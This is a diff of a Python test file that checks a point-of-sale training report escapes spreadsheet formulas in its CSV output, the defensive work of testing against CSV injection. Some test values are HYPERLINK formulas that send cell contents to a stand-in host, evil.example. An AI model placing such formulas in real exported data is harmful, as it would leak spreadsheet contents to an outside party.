@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from cashier_tui.__main__ import main as cashier_main
-from pos_core.training.report import main as report_main, read_results, report_rows
+from pos_core.training.report import csv_cell, main as report_main, read_results, report_rows
 from pos_core.training.results import TrainingResult, load_result, save_result
 from pos_core.training.scenario import shipped_scenarios
 from pos_core.training.scoring import ScenarioRun, TillView
@@ -75,3 +75,30 @@ def test_the_command_prints_a_table_and_writes_csv(tmp_path: Path, capsys: pytes
     assert report_main([str(tmp_path), "--csv", str(target)]) == 0
     assert target.exists()
     assert report_main([str(tmp_path / "missing")]) == 2
+
+
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)",
+                                   "\t=1", "\r=1"])
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
+    assert csv_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Sam", "O'Neill", "Anne-Marie", "55", "2026-11-01T09:30:00Z", "", "a=b"])
+def test_other_cells_are_written_as_they_are(value: str) -> None:
+    assert csv_cell(value) == value
+
+
+def test_a_trainee_named_as_a_formula_comes_out_of_the_real_report_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+    save_result(result(formula, "02-card-scan"), tmp_path)
+    save_result(result("@Robin", "05-phone-lookup"), tmp_path)
+    save_result(result("[bold red]Sam[/]", "05-phone-lookup"), tmp_path)
+    assert cashier_main(["training-report", str(tmp_path)]) == 0
+    shown = capsys.readouterr().out
+    assert "[bold red]Sam[/]" in shown  # the table shows the name as typed, never as markup
+    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [row[0] for row in csv.reader(handle)][1:]
+    assert sorted(cells) == sorted(["'" + formula, "'@Robin", "[bold red]Sam[/]"])
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
